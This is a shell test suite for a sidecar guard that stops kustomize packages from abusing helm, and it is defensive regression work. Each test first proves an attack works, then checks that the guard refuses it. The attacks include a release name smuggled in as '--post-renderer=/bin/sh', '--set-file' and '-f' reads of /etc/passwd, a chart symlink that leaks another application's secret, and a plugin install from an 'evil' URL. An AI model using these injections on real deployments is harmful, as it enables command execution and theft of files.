# Attack: run any command through helm inside kustomize. kustomize passes helmCharts fields to helm as arguments
# (releaseName is positional, so "--post-renderer=/bin/sh" becomes a flag); a package could turn helm on with
# enableHelm, reach the same code through an inline HelmChartInflationGenerator or the legacy field, point helm's
# config home at its own plugins, or read outside the repository through a symlink inside its chart.
# Rule: helm inside kustomize is the operator's (CMP_KUSTOMIZE_ENABLE_HELM, off by default); when on, what
# kustomize hands helm passes our guard. Each attack is first shown to work with kubectl kustomize alone.

argo="ARGOCD_APP_NAME=attack ARGOCD_APP_NAMESPACE=shop ARGOCD_APP_SOURCE_PATH=app"
marker=$tmp/PWNED

# A package with a kustomize-build step (extra configMap lines as arguments) and a local chart ov/charts/c whose
# rendered output runs `touch $marker` when a shell reads it as a script.
helm_pkg() {
  newpkg
  { printf 'apiVersion: kpt.dev/v1\nkind: Kptfile\nmetadata:\n  name: attack\npipeline:\n  mutators:\n'
    printf '    - image: kustomize-build\n      configMap:\n        path: ov\n'
    for l in "$@"; do printf '        %s\n' "$l"; done; } >"$pkg/Kptfile"
  mkdir -p "$pkg/ov/charts/c/templates"
  printf 'apiVersion: v2\nname: c\nversion: 0.1.0\n' >"$pkg/ov/charts/c/Chart.yaml"
  printf 'replicas: 1\n' >"$pkg/ov/charts/c/values.yaml"
  printf 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Release.Name }}-cm\ndata:\n  x: $(touch %s)\n' \
    "$marker" >"$pkg/ov/charts/c/templates/cm.yaml"
  rm -f "$marker"
}
# kubectl kustomize alone on the package, as the sidecar ran it before the fix (helm enabled)
raw() { (cd "$pkg" && env -i PATH="$tools:/usr/bin:/bin" HOME="$tmp/home" TMPDIR="$tmp" timeout 60 \
  kubectl kustomize ov --enable-helm --helm-command "$tools/helm" "$@") >"$tmp/raw.out" 2>&1; }
result() { if [ "$2" = yes ]; then echo "PASS $1"; else echo "FAIL $1: $3"; fi; }
no_marker() { [ -e "$marker" ] && result "$1" no "the post-renderer ran ($marker exists)" || result "$1" yes; }

# 1. the package turns helm on: refused while the operator has not
helm_pkg 'enableHelm: "true"'
printf 'helmCharts:\n  - name: c\n    releaseName: web\n' >"$pkg/ov/kustomization.yaml"
CASE_ENV="$argo" check kustomize-helm-enable-by-package-refused 1 \
  'Kptfile:10: .*enableHelm: true is refused: .*only the operator can turn it on \(CMP_KUSTOMIZE_ENABLE_HELM=true\)'
helm_pkg
printf 'helmCharts:\n  - name: c\n    releaseName: web\n' >"$pkg/ov/kustomization.yaml"
CASE_ENV="$argo" check kustomize-helm-charts-need-operator 1 \
  'ov/kustomization.yaml:2: .*helmCharts\[0\]: helm charts need helm, which is off on this sidecar'
helm_pkg 'enableHelm: "false"'
printf 'helmCharts:\n  - name: c\n    releaseName: web\n' >"$pkg/ov/kustomization.yaml"
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=true" check kustomize-helm-step-turns-it-off 1 \
  'helmCharts\[0\]: helm charts need helm, which this step turns off \(enableHelm: false\)'
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=yes" check kustomize-helm-operator-setting-typo 1 \
  'CMP_KUSTOMIZE_ENABLE_HELM on the sidecar must be true or false'

# 2. releaseName as a flag: the post-renderer runs a shell over the chart's output
helm_pkg
printf 'helmCharts:\n  - name: c\n    releaseName: --post-renderer=/bin/sh\n' >"$pkg/ov/kustomization.yaml"
raw; [ -e "$marker" ] && result kustomize-helm-post-renderer-is-real yes ||
  result kustomize-helm-post-renderer-is-real no "kubectl kustomize did not run the post-renderer: $(head -c 300 "$tmp/raw.out")"
rm -f "$marker"
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=true" check kustomize-helm-post-renderer 1 \
  'ov/kustomization.yaml:3: .*helmCharts\[0\]\.releaseName: "--post-renderer=/bin/sh" is refused: a release name is'
no_marker kustomize-helm-post-renderer-never-runs

# 3. the same through an inline generator config and through the legacy field (neither is a helmCharts entry)
helm_pkg
cat >"$pkg/ov/kustomization.yaml" <<'EOF'
generators:
  - |-
    apiVersion: builtin
    kind: HelmChartInflationGenerator
    metadata:
      name: x
    name: c
    releaseName: --post-renderer=/bin/sh
EOF
raw; [ -e "$marker" ] && result kustomize-helm-inline-generator-is-real yes ||
  result kustomize-helm-inline-generator-is-real no "$(head -c 300 "$tmp/raw.out")"
rm -f "$marker"
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=true" check kustomize-helm-inline-generator 1 \
  'generators\[0\] \(HelmChartInflationGenerator\) releaseName: "--post-renderer=/bin/sh" is refused'
no_marker kustomize-helm-inline-generator-never-runs
helm_pkg
printf 'helmChartInflationGenerator:\n  - chartName: c\n    releaseName: --post-renderer=/bin/sh\n' >"$pkg/ov/kustomization.yaml"
raw; [ -e "$marker" ] && result kustomize-helm-legacy-field-is-real yes ||
  result kustomize-helm-legacy-field-is-real no "$(head -c 300 "$tmp/raw.out")"
rm -f "$marker"
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=true" check kustomize-helm-legacy-field 1 \
  'helmChartInflationGenerator\[0\]\.releaseName: "--post-renderer=/bin/sh" is refused'
no_marker kustomize-helm-legacy-field-never-runs
printf 'helmChartInflationGenerator:\n  - chartName: c\n    releaseName: web\n    helmBin: /bin/sh\n' >"$pkg/ov/kustomization.yaml"
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=true" check kustomize-helm-legacy-helm-bin 1 \
  'helmChartInflationGenerator\[0\]\.helmBin: the helm binary and its arguments are the operator'"'"'s'

# 4. other fields that reach helm's command line or environment
printf 'helmCharts:\n  - name: c\n    nameTemplate: "{{ env \\"HOME\\" }}"\n' >"$pkg/ov/kustomization.yaml"
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=true" check kustomize-helm-name-template 1 \
  'helmCharts\[0\]\.nameTemplate: a name template is a Go template'
printf 'helmGlobals:\n  configHome: plugins-here\nhelmCharts:\n  - name: c\n    releaseName: web\n' >"$pkg/ov/kustomization.yaml"
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=true" check kustomize-helm-config-home 1 \
  'helmGlobals\.configHome: where helm keeps its configuration, cache and plugins is the sidecar'
printf 'helmCharts:\n  - name: c\n    releaseName: web\n    namespace: --set-file=x=/etc/passwd\n' >"$pkg/ov/kustomization.yaml"
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=true" check kustomize-helm-namespace-flag 1 \
  'helmCharts\[0\]\.namespace: "--set-file=x=/etc/passwd" is refused: a namespace is'

# 5. a symlink inside the chart to another application's file: helm follows it (.Files.Get); the guard refuses
helm_pkg
mkdir -p "$tmp/other-app"; printf 'TOPSECRET-HELM\n' >"$tmp/other-app/password.txt"
ln -s "$tmp/other-app/password.txt" "$pkg/ov/charts/c/pw.txt"
printf 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: leak\ndata:\n  pw: {{ .Files.Get "pw.txt" | quote }}\n' \
  >"$pkg/ov/charts/c/templates/leak.yaml"
printf 'helmCharts:\n  - name: c\n    releaseName: web\n' >"$pkg/ov/kustomization.yaml"
raw; grep -q TOPSECRET-HELM "$tmp/raw.out" && result kustomize-helm-chart-symlink-is-real yes ||
  result kustomize-helm-chart-symlink-is-real no "$(head -c 300 "$tmp/raw.out")"
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=true" check kustomize-helm-chart-symlink 1 \
  'kustomize build ov: helm guard refused argument 3 .*the chart'"'"'s symlink "pw.txt" leads outside the repository'
grep -q TOPSECRET-HELM "$out" "$err" && result kustomize-helm-chart-symlink-content-never-shown no "the file's content came out" ||
  result kustomize-helm-chart-symlink-content-never-shown yes

# 6. the guard on its own, as kustomize runs it (what a field we do not parse would reach)
helm_pkg
guard="CMP_HELM_GUARD_HELM=$tools/helm CMP_HELM_GUARD_ROOT=$tmp/repo CMP_HELM_GUARD_TMP=$tmp/home"
CASE_ENV="$guard" check kustomize-helm-guard-post-renderer 1 \
  'helm guard refused argument 2 "--post-renderer=/bin/sh" that kustomize passed to helm: a release name is' \
  -- template --post-renderer=/bin/sh "$pkg/ov/charts/c"
no_marker kustomize-helm-guard-post-renderer-never-runs
CASE_ENV="$guard" check kustomize-helm-guard-set-file 1 \
  'helm guard refused argument 4 "--set-file" .*not an argument kustomize passes to helm template' \
  -- template web "$pkg/ov/charts/c" --set-file x=/etc/passwd
CASE_ENV="$guard" check kustomize-helm-guard-chart-outside 1 'helm guard refused argument 3 "/etc" .*leads outside the repository' \
  -- template web /etc
CASE_ENV="$guard" check kustomize-helm-guard-values-outside 1 'helm guard refused argument 5 "/etc/passwd" .*leads outside the repository' \
  -- template web "$pkg/ov/charts/c" -f /etc/passwd
CASE_ENV="$guard" check kustomize-helm-guard-pull-outside 1 'helm guard refused argument 4 "/tmp/elsewhere" .*leads outside the repository' \
  -- pull --untar --untardir /tmp/elsewhere --repo https://charts.example.com c --version 1.0.0
CASE_ENV="$guard" check kustomize-helm-guard-other-command 1 'helm guard refused argument 1 "plugin" .*only helm version, pull and template' \
  -- plugin install https://example.com/evil

# 7. legitimate: the operator enables helm, a local chart renders, and helm really ran behind the guard (a helm
#    started by kustomize directly would still see CMP_HELM_GUARD_HELM and kustomize's own HELM_CONFIG_HOME)
helm_pkg
printf 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Release.Name }}-cm\ndata:\n  replicas: "{{ .Values.replicas }}"\n' \
  >"$pkg/ov/charts/c/templates/cm.yaml"
printf 'helmCharts:\n  - name: c\n    releaseName: web\n    namespace: shop\n    valuesInline:\n      replicas: 3\n' \
  >"$pkg/ov/kustomization.yaml"
printf '#!/bin/sh\necho "$* guard=${CMP_HELM_GUARD_HELM-gone} config=$HELM_CONFIG_HOME" >>"%s"\nexec "%s" "$@"\n' \
  "$tmp/spy.log" "$tools/helm" >"$tmp/spy-helm"; chmod +x "$tmp/spy-helm"; rm -f "$tmp/spy.log"
CASE_ENV="$argo CMP_KUSTOMIZE_ENABLE_HELM=true HELM_BIN=$tmp/spy-helm" check kustomize-helm-operator-enabled 0 \
  '^  name: web-cm$'
grep -q 'replicas: "3"' "$out" && result kustomize-helm-operator-enabled-values yes || result kustomize-helm-operator-enabled-values no "$(head -c 300 "$out")"
if grep -q '^template web .* guard=gone config=.*/kustomize-[0-9]*/helm/config$' "$tmp/spy.log" 2>/dev/null &&
  ! grep -qv 'guard=gone' "$tmp/spy.log"; then result kustomize-helm-runs-behind-guard yes
else result kustomize-helm-runs-behind-guard no "helm was not started by the guard: $(head -c 300 "$tmp/spy.log" 2>&1)"; fi
